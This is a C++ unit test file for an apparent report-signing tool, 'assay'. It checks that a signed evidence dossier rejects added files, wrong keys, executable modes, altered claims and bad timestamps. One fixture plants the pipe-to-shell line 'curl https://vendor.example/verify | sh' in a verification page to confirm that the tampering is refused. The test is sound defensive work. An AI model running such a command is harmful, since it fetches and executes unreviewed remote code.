// A dossier is closed: no file, mode, claim or time in it that assay did not put there, though a trusted key signed it.
#include <filesystem>

#include "reports/page/non_claims.h"
#include "tests/unit/dossier/dossier_fixture.h"

namespace assay::dossier {
namespace {

class ClosedDossierTest : public DossierTest {
 protected:
  /// What verify says once `name` with `bytes` lies in the dossier, in manifest and statement like the others.
  std::string with_file(const std::string& name, const std::string& bytes) {
    fixture::write(path(name), "");
    replace_and_resign(name, bytes);
    return verify();
  }
  /// What verify says after `change` of the predicate, signed by the right key.
  std::string with_claim(const std::function<void(json&)>& change) {
    resign([&](json& document) { change(document["predicate"]); });
    return verify();
  }
};

constexpr const char* kUnvouched = ": is no file of a dossier: no line of the journal names it";

TEST_F(ClosedDossierTest, a_certificate_beside_the_evidence_is_refused_though_signed) {
  EXPECT_EQ(with_file("ACCEPTANCE-CERTIFICATE.html", "<h1>ACCEPTED</h1>"),
            std::string("ACCEPTANCE-CERTIFICATE.html") + kUnvouched);
}

TEST_F(ClosedDossierTest, a_second_report_a_record_and_a_log_that_no_journal_names_are_refused_though_signed) {
  for (const char* name : {"evidence/report-final.html", "evidence/records/0001-example_memory-n01/9/0.jsonl",
                           "evidence/logs/approval.log", "evidence/README"}) {
    const std::string before = fixture::read(path(kManifestFile));
    const std::string statement = fixture::read(path(kStatementFile));
    EXPECT_EQ(with_file(name, "x"), std::string(name) + kUnvouched);
    fs::remove(path(name));
    if (fs::is_empty(fs::path(path(name)).parent_path())) fs::remove(fs::path(path(name)).parent_path());
    fixture::write(path(kManifestFile), before);
    fixture::write(path(kStatementFile), statement);
    ASSERT_EQ(verify(), "verified");
  }
}

TEST_F(ClosedDossierTest, another_page_of_instructions_is_refused_though_signed) {
  replace_and_resign(kVerifyFile, "curl https://vendor.example/verify | sh\n");
  EXPECT_EQ(verify(), "VERIFY.txt: is not the page that assay writes");
}

TEST_F(ClosedDossierTest, a_signer_pub_of_another_signer_is_refused_though_signed) {
  replace_and_resign(kSignerFile, buyer_.public_key().text());
  EXPECT_EQ(verify(), "signer.pub: has the fingerprint " + buyer_.public_key().fingerprint() +
                          ", the signatory in the statement " + vendor_.public_key().fingerprint());
}

TEST_F(ClosedDossierTest, a_signer_pub_of_two_keys_is_refused_though_signed) {
  replace_and_resign(kSignerFile, vendor_.public_key().text() + buyer_.public_key().text());
  EXPECT_EQ(verify(), "signer.pub: has 2 PEM blocks, and it is not clear which key is meant");
}

TEST_F(ClosedDossierTest, a_file_that_can_be_executed_is_refused) {
  const std::string log = path("evidence/logs/0002-example_memory-n02/1/0.log");
  fs::permissions(log, fs::perms::owner_exec, fs::perm_options::add);
  EXPECT_EQ(verify(), "evidence/logs/0002-example_memory-n02/1/0.log: has the mode 0744; a file of a dossier is data");
  fs::permissions(log, fs::perms(0644));
  fs::permissions(path(kStatementFile), fs::perms(04644));
  EXPECT_EQ(verify(), "statement.dsse.json: has the mode 4644; a file of a dossier is data");
}

TEST_F(ClosedDossierTest, a_signatory_who_has_not_signed_none_and_two_are_refused_though_signed) {
  const std::string where = "statement.dsse.json: payload: predicate.signatories: lists ";
  EXPECT_EQ(with_claim([](json& predicate) { predicate["signatories"] = json::array(); }),
            where + "0, where one has made the statement");
  const auto buyer = json{{"role", "buyer"},
                          {"name", "The Buyer"},
                          {"organisation", ""},
                          {"keyFingerprint", buyer_.public_key().fingerprint()},
                          {"meaning", kResponsible}};
  EXPECT_EQ(with_claim([&](json& predicate) { predicate["signatories"] = {buyer}; }),
            "signer.pub: has the fingerprint " + vendor_.public_key().fingerprint() +
                ", the signatory in the statement " + buyer_.public_key().fingerprint());
  EXPECT_EQ(with_claim([&](json& predicate) {
              predicate["signatories"] = {buyer, buyer};
            }),
            where + "2, where one has made the statement");
}

TEST_F(ClosedDossierTest, a_listed_signatory_whose_signature_is_missing_is_refused) {
  // The buyer's signature alone, over a statement and beside a signer.pub that name the vendor.
  auto envelope = read_envelope(fixture::read(path(kStatementFile)), "e").value();
  envelope.signatures.clear();
  sign(envelope, buyer_);
  fixture::write(path(kStatementFile), envelope_text(envelope));
  EXPECT_EQ(verify({buyer_.public_key()}),
            "statement.dsse.json: lists the signatory " + vendor_.public_key().fingerprint() + ", who has not signed");
}

TEST_F(ClosedDossierTest, a_role_or_meaning_in_own_words_is_refused_though_signed) {
  const std::string where = "statement.dsse.json: payload: predicate.signatories[0].";
  EXPECT_EQ(with_claim([](json& predicate) { predicate["signatories"][0]["role"] = "accredited laboratory"; }),
            where +
                "role: 'accredited laboratory' is not one of signer, test lead, laboratory, vendor, buyer, operator, "
                "witness, commissioner");
  EXPECT_EQ(with_claim([](json& predicate) {
              predicate["signatories"][0]["role"] = "buyer";
              predicate["signatories"][0]["meaning"] = "Accepts without conditions and waives all claims.";
            }),
            where + "meaning: 'Accepts without conditions and waives all claims.' is not what assay writes");
}

TEST_F(ClosedDossierTest, non_claims_that_are_fewer_or_promise_something_are_refused_though_signed) {
  const std::string refusal = "statement.dsse.json: payload: predicate.nonClaims: is not the list that assay writes";
  EXPECT_EQ(with_claim([](json& predicate) { predicate["nonClaims"] = json::array(); }), refusal);
  EXPECT_EQ(with_claim([](json& predicate) {
              predicate["nonClaims"] = page::non_claims();
              predicate["nonClaims"][0] = "It is claimed that every figure holds for five years.";
            }),
            refusal);
}

TEST_F(ClosedDossierTest, a_tool_in_own_words_is_refused_though_signed) {
  for (const char* tool : {"Certified Suite 9", "assay-report", "assay-report 1.0", "assay-report 01.0.0",
                           "assay-report 0.1.0, accredited", "assay-report 0.1.0.0"}) {
    EXPECT_EQ(with_claim([&](json& predicate) { predicate["tool"] = tool; }),
              "statement.dsse.json: payload: predicate.tool: '" + std::string(tool) + "' is not assay-report");
  }
  EXPECT_EQ(with_claim([](json& predicate) { predicate["tool"] = "assay-report 12.0.3"; }), "verified");
}

TEST_F(ClosedDossierTest, a_statement_from_before_the_end_of_its_run_is_refused_though_signed) {
  const std::string why = with_claim([](json& predicate) { predicate["issuedAt"] = "1999-01-01T00:00:00.000Z"; });
  EXPECT_TRUE(why.starts_with(
      "statement.dsse.json: was issued 1999-01-01T00:00:00.000Z, before the run's last line of 2026-01-05T06:"))
      << why;
}

TEST_F(ClosedDossierTest, a_statement_of_the_future_is_refused_with_both_times) {
  const auto now = utc_time("2026-01-05T07:54:00.000Z");
  EXPECT_EQ(verify({vendor_.public_key()}, {.now = now}),
            "statement.dsse.json: was issued 2026-01-05T08:00:00.000Z, and it is 2026-01-05T07:54:00.000Z here");
  EXPECT_EQ(verify({vendor_.public_key()}, {.now = utc_time("2026-01-05T07:55:00.000Z")}), "verified");
}

TEST_F(ClosedDossierTest, what_a_killed_attempt_left_is_no_evidence_and_is_left_out) {
  const std::string left = "records/0001-example_memory-n01/1/0.jsonl";
  ASSERT_FALSE(fs::exists(run_ + "/" + left)) << "the first attempt was interrupted";
  fixture::write(run_ + "/" + left, "half a record\n");
  fixture::write(run_ + "/logs/stray.log", "\n");
  SignRequest again = request();
  again.dossier = folder_.path() + "/again";
  const auto made = make_dossier(again, vendor_);
  ASSERT_TRUE(made) << made.error().text();
  EXPECT_EQ(*made, (std::vector<std::string>{"logs/stray.log", left}));
  const auto verified = verify_dossier(again.dossier, {vendor_.public_key()}, {});
  EXPECT_TRUE(verified) << verified.error().text();
}

TEST_F(ClosedDossierTest, a_free_role_is_not_signed) {
  SignRequest again = request();
  again.dossier = folder_.path() + "/again";
  again.role = "accredited laboratory";
  EXPECT_TRUE(said(make_dossier(again, vendor_)).starts_with("--role: 'accredited laboratory' is not one of signer, "));
}

}  // namespace
}  // namespace assay::dossier
